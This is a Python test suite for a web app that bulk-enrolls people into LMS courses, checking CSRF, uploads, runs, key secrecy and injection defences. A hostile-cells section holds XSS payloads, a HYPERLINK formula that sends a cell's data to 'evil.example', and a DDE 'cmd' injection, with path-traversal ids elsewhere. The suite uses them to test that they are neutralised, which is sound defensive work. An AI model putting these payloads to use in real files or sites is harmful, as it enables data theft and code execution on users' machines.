"""The page's routes and JSON API, through starlette's TestClient against a real simulator."""

from __future__ import annotations

import csv
import io
import json
import logging
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from starlette.testclient import TestClient

from batch_enroll.cli import main
from batch_enroll.loader import LoadError, load_sheet
from batch_enroll.model import RESULT_COLUMNS
from batch_enroll.runner import RunOptions, validate_sheet
from batch_enroll.simulator import Simulator, SimulatorServer
from batch_enroll.web import app as web_app
from tests.conftest import FULL_KEY
from tests.web_helpers import (
    SAMPLE_XLSX,
    booked,
    client_for,
    csrf,
    hr_workbook,
    upload,
    wait_run,
    web_config,
)

Lms = tuple[Simulator, SimulatorServer]


@pytest.fixture
def lms(
    sim_app: Callable[..., Simulator], sim_server: Callable[[Simulator], SimulatorServer]
) -> Lms:
    """Serve a fresh simulator over a real socket."""
    app = sim_app()
    return app, sim_server(app)


@pytest.fixture
def slow_lms(
    sim_app: Callable[..., Simulator], sim_server: Callable[[Simulator], SimulatorServer]
) -> Lms:
    """Serve a simulator slow enough that a run is still going while a test acts."""
    app = sim_app(latency_ms=150)
    return app, sim_server(app)


@pytest.fixture
def client(tmp_path: Path, lms: Lms) -> Iterator[TestClient]:
    with client_for(web_config(tmp_path / "data", lms[1].base_url)) as web:
        yield web


def _expected_counts(path: Path, base_url: str) -> dict[str, int]:
    options = RunOptions(base_url=base_url, api_key=FULL_KEY)
    return validate_sheet(path, report=None, options=options).counts


# -- the page ---------------------------------------------------------------------------------


def test_page_carries_csrf_token_and_security_headers(client: TestClient) -> None:
    page = client.get("/")
    assert page.status_code == 200
    assert '<meta name="csrf-token" content="' in page.text
    csp = page.headers["content-security-policy"]
    assert "script-src 'self'" in csp
    assert "unsafe-inline" not in csp
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["referrer-policy"] == "no-referrer"
    # Every script is a file the app serves: none inline, none from elsewhere.
    assert "<script>" not in page.text
    assert "http" not in page.text.split("<body")[0].replace("http-equiv", "")
    for asset in ("/static/app.js", "/static/style.css"):
        served = client.get(asset)
        assert served.status_code == 200
        assert served.headers["x-content-type-options"] == "nosniff"


def test_a_foreign_host_name_is_refused(client: TestClient) -> None:
    answer = client.get("/", headers={"host": "attacker.example"})
    assert answer.status_code == 400
    assert "attacker.example" in answer.json()["error"]


# -- CSRF -------------------------------------------------------------------------------------


@pytest.mark.parametrize("token", [None, "wrong"])
def test_state_changes_without_the_csrf_token_are_refused_and_change_nothing(
    client: TestClient, tmp_path: Path, token: str | None
) -> None:
    headers = {} if token is None else {"X-CSRF-Token": token}
    with SAMPLE_XLSX.open("rb") as handle:
        answer = client.post("/api/uploads", files={"file": ("s.xlsx", handle)}, headers=headers)
    assert answer.status_code == 403
    assert "X-CSRF-Token" in answer.json()["error"]
    assert list((tmp_path / "data" / "uploads").iterdir()) == []

    checked = upload(client, SAMPLE_XLSX).json()
    refused = client.post(f"/api/uploads/{checked['id']}/run", headers=headers)
    assert refused.status_code == 403
    assert client.get("/api/runs").json() == {"runs": []}


# -- uploads ----------------------------------------------------------------------------------


def test_upload_answers_the_validate_report(client: TestClient, lms: Lms) -> None:
    answer = upload(client, SAMPLE_XLSX)
    assert answer.status_code == 200
    body = answer.json()
    assert {"id", "file", "counts", "rows"} <= set(body)
    assert body["file"] == "onboarding.xlsx"
    expected = _expected_counts(SAMPLE_XLSX, lms[1].base_url)
    assert body["counts"] == expected
    sheet = load_sheet(SAMPLE_XLSX)
    assert len(body["rows"]) == len(sheet.frame)
    assert list(body["rows"][0])[: len(RESULT_COLUMNS)] == list(RESULT_COLUMNS)
    assert body["sheet_columns"] == list(sheet.extra_columns)
    sendable = expected["ok"] + expected["warning"]
    assert body["plan"]["rows"] == sendable
    assert body["summary"]["input"] == "onboarding.xlsx"
    # A reload finds the same check again.
    assert client.get(f"/api/uploads/{body['id']}").json() == body


def test_a_bad_file_gets_the_clis_one_line_error(
    client: TestClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # As `serve` runs: its data folder under the working folder, the person's file in theirs.
    monkeypatch.chdir(tmp_path)
    Path("hires.csv").write_text("name,department\nKay,Sales\n", encoding="utf-8")
    cli = CliRunner().invoke(main, ["validate", "--offline", "hires.csv"])
    assert cli.exit_code == 2
    with pytest.raises(LoadError) as raised:
        load_sheet("hires.csv")
    assert f"batch-enroll: error: {raised.value}" in cli.output
    answer = upload(client, Path("hires.csv"))
    assert answer.status_code == 400
    assert answer.json() == {"error": str(raised.value)}
    assert "\n" not in answer.json()["error"]


def test_uploads_over_the_limit_get_a_clear_413(tmp_path: Path, lms: Lms) -> None:
    config = web_config(tmp_path / "data", lms[1].base_url, max_upload_mb=0.01)
    big = tmp_path / "big.csv"
    big.write_text("course_id,user_login_name\n" + "101,kay@contoso.com\n" * 2000)
    with client_for(config) as web:
        answer = upload(web, big)
    assert answer.status_code == 413
    assert "0.01 MB" in answer.json()["error"]
    assert "--max-upload-mb" in answer.json()["error"]


def test_an_upload_without_a_file_is_refused(client: TestClient) -> None:
    answer = client.post("/api/uploads", data={"other": "x"}, headers=csrf(client))
    assert answer.status_code == 400
    assert "file" in answer.json()["error"]


# -- no cell is ever markup -------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(2)">',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
]


def hostile_sheet(path: Path) -> Path:
    """Write a sheet whose every free cell is markup or a formula."""
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["course_id", "user_login_name", "<b>note</b>", "=1+1"])
        writer.writerow(["101", "liam.patel@contoso.com", HOSTILE[0], HOSTILE[2]])
        writer.writerow([HOSTILE[0], HOSTILE[1], HOSTILE[1], HOSTILE[3]])
        writer.writerow(["101", HOSTILE[2], HOSTILE[3], HOSTILE[0]])
    return path


def test_cells_come_back_as_data_never_as_markup_or_formulas(
    client: TestClient, tmp_path: Path
) -> None:
    sheet = hostile_sheet(tmp_path / "hostile.csv")
    answer = upload(client, sheet, name="<img src=x onerror=alert(3)>evil.csv")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "application/json"
    body = answer.json()
    cells = {value for row in body["rows"] for value in row.values()}
    assert set(HOSTILE) <= cells  # kept verbatim as data, for the page to show as text
    page = client.get("/").text
    for text in [*HOSTILE, "evil", "onerror"]:
        assert text not in page
    run = client.post(f"/api/uploads/{body['id']}/run", headers=csrf(client)).json()["run"]
    done = wait_run(client, run)
    assert done["state"] == "done"
    results = client.get(f"/api/runs/{run}/results.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(results.content))
    values = [cell for row in book.active.iter_rows() for cell in row]
    formulas = [c.coordinate for c in values if c.data_type == "f"]
    assert formulas == []
    texts = {str(c.value) for c in values}
    assert "'" + HOSTILE[2] in texts
    assert "'" + HOSTILE[3] in texts
    assert "'=1+1" in texts
    shown = client.get(f"/api/runs/{run}/rows").json()
    assert set(HOSTILE) <= {value for row in shown["rows"] for value in row.values()}
    csv_text = client.get(f"/api/runs/{run}/results.csv").text
    assert "'" + HOSTILE[2].replace('"', '""') in csv_text


# -- runs -------------------------------------------------------------------------------------


def test_a_run_reports_progress_summary_and_both_downloads(client: TestClient, lms: Lms) -> None:
    checked = upload(client, SAMPLE_XLSX).json()
    started = client.post(f"/api/uploads/{checked['id']}/run", headers=csrf(client))
    assert started.status_code == 200
    run_id = started.json()["run"]
    assert set(started.json()) == {"run"}
    done = wait_run(client, run_id)
    assert done["state"] == "done"
    assert {"state", "done", "total", "counts", "summary"} <= set(done)
    # Progress counts the rows this run sent; the counts cover every row of the sheet.
    assert done["done"] == done["total"] == checked["plan"]["rows"]
    assert sum(done["counts"].values()) == len(checked["rows"])
    assert done["summary"]["counts"]["enrolled"] == done["counts"]["enrolled"]
    assert done["summary"]["input"] == "onboarding.xlsx"

    rows = list(csv.DictReader(io.StringIO(client.get(f"/api/runs/{run_id}/results.csv").text)))
    assert len(rows) == len(checked["rows"])
    shown = client.get(f"/api/runs/{run_id}/rows").json()
    assert [(r["row"], r["status"]) for r in shown["rows"]] == [
        (int(r["row"]), r["status"]) for r in rows
    ]
    assert shown["sheet_columns"] == checked["sheet_columns"]
    failing = {r["error_code"] for r in rows if r["status"] in ("invalid", "failed")}
    assert set(done["summary"]["errors"]) == failing
    statuses: dict[str, int] = {}
    for row in rows:
        statuses[row["status"]] = statuses.get(row["status"], 0) + 1
    assert statuses == done["counts"]
    # What the results say was enrolled is what the server holds, once each.
    simulator = lms[0]
    assert sum(simulator.creations.values()) == booked(done["counts"])
    assert set(simulator.creations.values()) == {1}

    xlsx = client.get(f"/api/runs/{run_id}/results.xlsx")
    assert xlsx.status_code == 200
    assert "onboarding-results.xlsx" in xlsx.headers["content-disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet.freeze_panes == "A2"
    assert (
        sheet.auto_filter.ref
        == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{len(rows) + 1}"
    )
    table = list(sheet.iter_rows(values_only=True))
    assert [str(v) for v in table[0]] == list(rows[0])
    assert [str(r[4]) for r in table[1:]] == [r["status"] for r in rows]
    status_col = list(rows[0]).index("status") + 1
    fills = {
        sheet.cell(i + 2, status_col).value: sheet.cell(i + 2, status_col).fill.fgColor.rgb
        for i in range(len(rows))
    }
    assert fills["enrolled"].endswith("C6EFCE")
    assert fills["invalid"].endswith("FFC7CE")

    history = client.get("/api/runs").json()["runs"]
    assert [r["run"] for r in history] == [run_id]
    assert history[0]["file"] == "onboarding.xlsx"
    assert history[0]["counts"] == done["counts"]


def test_one_run_at_a_time_the_second_enroll_is_refused_clearly(
    tmp_path: Path, slow_lms: Lms
) -> None:
    with client_for(web_config(tmp_path / "data", slow_lms[1].base_url)) as web:
        checked = upload(web, SAMPLE_XLSX).json()
        first = web.post(f"/api/uploads/{checked['id']}/run", headers=csrf(web)).json()["run"]
        second = web.post(f"/api/uploads/{checked['id']}/run", headers=csrf(web))
        assert second.status_code == 409
        message = second.json()["error"]
        assert "already going" in message
        assert first in message
        assert [r["run"] for r in web.get("/api/runs").json()["runs"]] == [first]
        web.post(f"/api/runs/{first}/stop", headers=csrf(web))
        assert wait_run(web, first)["state"] == "stopped"


def test_stop_then_resume_finishes_without_sending_twice(tmp_path: Path, slow_lms: Lms) -> None:
    simulator, server = slow_lms
    with client_for(web_config(tmp_path / "data", server.base_url)) as web:
        checked = upload(web, SAMPLE_XLSX).json()
        run_id = web.post(f"/api/uploads/{checked['id']}/run", headers=csrf(web)).json()["run"]
        while not simulator.creations:
            pass
        stop = web.post(f"/api/runs/{run_id}/stop", headers=csrf(web))
        assert stop.status_code == 200
        stopped = wait_run(web, run_id)
        assert stopped["state"] == "stopped"
        assert stopped["resumable"]
        assert stopped["counts"].get("not_attempted", 0) > 0
        resumed = web.post(f"/api/runs/{run_id}/resume", headers=csrf(web))
        assert resumed.json() == {"run": run_id}
        done = wait_run(web, run_id)
    assert done["state"] == "done"
    assert "not_attempted" not in done["counts"]
    assert set(simulator.creations.values()) == {1}
    assert sum(simulator.creations.values()) == booked(done["counts"])


def test_history_survives_a_restart_and_an_interrupted_run_resumes(
    tmp_path: Path, slow_lms: Lms
) -> None:
    simulator, server = slow_lms
    config = web_config(tmp_path / "data", server.base_url)
    with client_for(config) as web:
        checked = upload(web, SAMPLE_XLSX).json()
        run_id = web.post(f"/api/uploads/{checked['id']}/run", headers=csrf(web)).json()["run"]
        while not simulator.creations:
            pass
    # Leaving the client shut the app down in the middle of the run, as Ctrl+C does.
    with client_for(config) as web:
        history = web.get("/api/runs").json()["runs"]
        assert [(r["run"], r["state"], r["resumable"]) for r in history] == [
            (run_id, "stopped", True)
        ]
        resumed = web.post(f"/api/runs/{run_id}/resume", headers=csrf(web))
        assert resumed.status_code == 200, resumed.text
        done = wait_run(web, run_id)
    assert done["state"] == "done"
    assert set(simulator.creations.values()) == {1}
    with client_for(config) as web:
        again = web.get("/api/runs").json()["runs"]
        assert [(r["run"], r["state"], r["counts"]) for r in again] == [
            (run_id, "done", done["counts"])
        ]
        assert web.get(again[0]["downloads"]["csv"]).status_code == 200
        assert web.get(again[0]["downloads"]["xlsx"]).status_code == 200


def test_unknown_runs_and_bad_ids_are_404(client: TestClient) -> None:
    for path in ("/api/runs/nope", "/api/runs/../../etc", "/api/runs/20260101-000000-00000000"):
        answer = client.get(path)
        assert answer.status_code == 404
    assert client.get("/api/uploads/..%2f..%2fetc").status_code == 404


def test_a_server_error_is_short_and_logged(
    tmp_path: Path,
    lms: Lms,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    def boom(*_args: object, **_kwargs: object) -> None:
        raise RuntimeError("secret detail /srv/path")

    monkeypatch.setattr(web_app.engine, "plan_for", boom)
    config = web_config(tmp_path / "data", lms[1].base_url)
    with (
        caplog.at_level(logging.ERROR, logger="batch_enroll.web"),
        client_for(config, raise_server_exceptions=False) as web,
    ):
        answer = upload(web, SAMPLE_XLSX)
    assert answer.status_code == 500
    assert answer.json() == {
        "error": "something went wrong on the server; the details are in its log"
    }
    assert "secret detail" not in answer.text
    assert "Traceback" not in answer.text
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "secret detail" in caplog.text
    assert "Traceback" in caplog.text


def test_the_api_key_never_reaches_a_page_an_answer_or_a_stored_file(
    client: TestClient, tmp_path: Path
) -> None:
    seen = [client.get("/").text, client.get("/api/session").text]
    checked = upload(client, SAMPLE_XLSX)
    seen.append(checked.text)
    run_id = client.post(f"/api/uploads/{checked.json()['id']}/run", headers=csrf(client)).json()[
        "run"
    ]
    seen.append(json.dumps(wait_run(client, run_id)))
    seen.append(client.get("/api/runs").text)
    seen.append(client.get(f"/api/runs/{run_id}/results.csv").text)
    assert not any(FULL_KEY in text for text in seen)
    stored = [p for p in (tmp_path / "data").rglob("*") if p.is_file()]
    assert stored
    assert not any(FULL_KEY.encode() in p.read_bytes() for p in stored)


# -- the access token -------------------------------------------------------------------------


def test_with_an_auth_token_every_request_needs_it(tmp_path: Path, lms: Lms) -> None:
    config = web_config(
        tmp_path / "data", lms[1].base_url, auth_token="s3cret-token", allowed_hosts=frozenset()
    )
    with client_for(config) as web:
        assert web.get("/api/runs").status_code == 401
        assert web.get("/", follow_redirects=False).headers["location"] == "/login"
        assert "Access token" in web.get("/login").text
        wrong = web.post("/login", data={"token": "nope"}, follow_redirects=False)
        assert wrong.status_code == 401
        assert "not right" in wrong.text
        signed = web.post("/login", data={"token": "s3cret-token"}, follow_redirects=False)
        assert signed.status_code == 303
        assert "httponly" in signed.headers["set-cookie"].lower()
        assert web.get("/api/runs").status_code == 200
        assert upload(web, SAMPLE_XLSX).status_code == 200
        web.cookies.clear()
        assert web.get("/api/runs").status_code == 401
        bearer = {"Authorization": "Bearer s3cret-token"}
        assert web.get("/api/runs", headers=bearer).status_code == 200


# -- the command ------------------------------------------------------------------------------


def test_serve_refuses_a_public_host_without_a_token(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("BATCH_ENROLL_TOKEN", raising=False)
    result = CliRunner().invoke(
        main,
        ["serve", "--host", "0.0.0.0", "--api-key", FULL_KEY],  # noqa: S104
    )
    assert result.exit_code == 2
    assert "refusing to listen on 0.0.0.0" in result.output
    assert "BATCH_ENROLL_TOKEN" in result.output
    assert FULL_KEY not in result.output


def test_serve_needs_an_api_key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("LMS365_API_KEY", raising=False)
    result = CliRunner().invoke(main, ["serve"])
    assert result.exit_code == 2
    assert "no API key" in result.output


def test_serve_starts_with_the_options_it_was_given(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    captured: dict[str, object] = {}

    def fake_run(app: object, *, host: str, port: int) -> None:
        captured.update(app=app, host=host, port=port)

    monkeypatch.setattr("batch_enroll.web.serve.run_server", fake_run)
    result = CliRunner().invoke(
        main,
        [
            "serve",
            "--host",
            "0.0.0.0",  # noqa: S104
            "--port",
            "9000",
            "--data-dir",
            str(tmp_path / "d"),
            "--api-key",
            FULL_KEY,
            "--auth-token",
            "tok",
            "--max-upload-mb",
            "5",
        ],
    )
    assert result.exit_code == 0, result.output
    assert captured["host"] == "0.0.0.0"  # noqa: S104
    assert captured["port"] == 9000
    assert "http://0.0.0.0:9000" in result.output
    assert (tmp_path / "d" / "runs").is_dir()
    assert FULL_KEY not in result.output


def test_the_confirmation_counts_rows_courses_and_unenrollments(
    client: TestClient, lms: Lms, tmp_path: Path
) -> None:
    # Rows the sample's own check finds sendable, so the test follows the sample and catalog.
    options = RunOptions(base_url=lms[1].base_url, api_key=FULL_KEY)
    report = validate_sheet(SAMPLE_XLSX, report=None, options=options).results
    assert report is not None
    # One row per course as the check resolved it (a code and a title may name one course).
    resolved = "lms_course_id" if "lms_course_id" in report.columns else "course_id"
    ready = report[report["status"] == "ok"].drop_duplicates(resolved).head(3)
    assert len(ready) >= 2
    sheet = tmp_path / "moves.csv"
    with sheet.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["course_id", "user_login_name", "course_session_ids", "action"])
        for i, (course, login, sessions) in enumerate(
            zip(
                ready["course_id"],
                ready["user_login_name"],
                ready["course_session_ids"],
                strict=True,
            )
        ):
            writer.writerow([course, login, sessions, "unenroll" if i == 0 else "enroll"])
        writer.writerow([ready["course_id"].iloc[0], "kay smith@contoso.com", "", "enroll"])
    body = upload(client, sheet).json()
    assert body["counts"]["invalid"] == 1
    assert body["plan"] == {
        "rows": len(ready),
        "courses": ready[resolved].nunique(),
        "unenrollments": 1,
    }
    assert body["sheet_columns"] == []


def test_two_servers_on_one_data_folder_run_one_batch_at_a_time(
    tmp_path: Path, slow_lms: Lms
) -> None:
    config = web_config(tmp_path / "data", slow_lms[1].base_url)
    with client_for(config) as first, client_for(config) as second:
        checked = upload(first, SAMPLE_XLSX).json()
        run_id = first.post(f"/api/uploads/{checked['id']}/run", headers=csrf(first)).json()
        other = upload(second, SAMPLE_XLSX).json()
        refused = second.post(f"/api/uploads/{other['id']}/run", headers=csrf(second))
        assert refused.status_code == 409
        assert "another batch-enroll server" in refused.json()["error"]
        # The second server sees the first one's run going, not a dead one to resume.
        seen = second.get(f"/api/runs/{run_id['run']}").json()
        assert seen["state"] == "running"
        assert not seen["resumable"]
        first.post(f"/api/runs/{run_id['run']}/stop", headers=csrf(first))
        assert wait_run(first, run_id["run"])["state"] == "stopped"


def test_a_refused_key_is_said_plainly_on_the_check(tmp_path: Path, lms: Lms) -> None:
    options = RunOptions(base_url=lms[1].base_url, api_key="not-a-key", concurrency=4)
    with client_for(web_config(tmp_path / "data", lms[1].base_url, options=options)) as web:
        body = upload(web, SAMPLE_XLSX).json()
    reason = body["summary"]["stopped_because"]
    assert "401" in reason
    assert "not-a-key" not in json.dumps(body)


def test_the_check_says_which_sheet_and_header_row_and_another_can_be_picked(
    client: TestClient, lms: Lms, tmp_path: Path
) -> None:
    options = RunOptions(base_url=lms[1].base_url, api_key=FULL_KEY)
    report = validate_sheet(SAMPLE_XLSX, report=None, options=options).results
    assert report is not None
    ready = report[report["status"] == "ok"].head(5)
    people = list(zip(ready["course_id"], ready["user_login_name"], strict=True))
    path = hr_workbook(tmp_path / "hr.xlsx", people)

    first = upload(client, path).json()
    assert first["sheet"]["name"] == "Hires"
    assert first["sheet"]["header_row"] == 3
    assert first["sheet"]["sheet_names"] == ["Instructions", "Hires", "Later"]
    assert "Later" in first["sheet"]["other_sheets"]
    assert [r["row"] for r in first["rows"]] == [4, 5]
    assert first["sheet_columns"] == ["Team"]

    picked = client.post(
        f"/api/uploads/{first['id']}/check", json={"sheet": "Later"}, headers=csrf(client)
    )
    assert picked.status_code == 200
    body = picked.json()
    assert body["id"] == first["id"]
    assert body["sheet"]["name"] == "Later"
    assert len(body["rows"]) == len(people) - 2
    assert client.get(f"/api/uploads/{first['id']}").json()["sheet"]["name"] == "Later"

    missing = client.post(
        f"/api/uploads/{first['id']}/check", json={"sheet": "Nope"}, headers=csrf(client)
    )
    assert missing.status_code == 400
    assert missing.json()["error"].startswith("hr.xlsx: ")
    assert "Later" in missing.json()["error"]
    no_token = client.post(f"/api/uploads/{first['id']}/check", json={"sheet": "Hires"})
    assert no_token.status_code == 403

    run_id = client.post(f"/api/uploads/{first['id']}/run", headers=csrf(client)).json()["run"]
    done = wait_run(client, run_id)
    assert done["sheet"] == "Later"
    shown = client.get(f"/api/runs/{run_id}/rows").json()
    assert [(r["course_id"], r["user_login_name"]) for r in shown["rows"]] == [
        (str(c), str(u)) for c, u in people[2:]
    ]
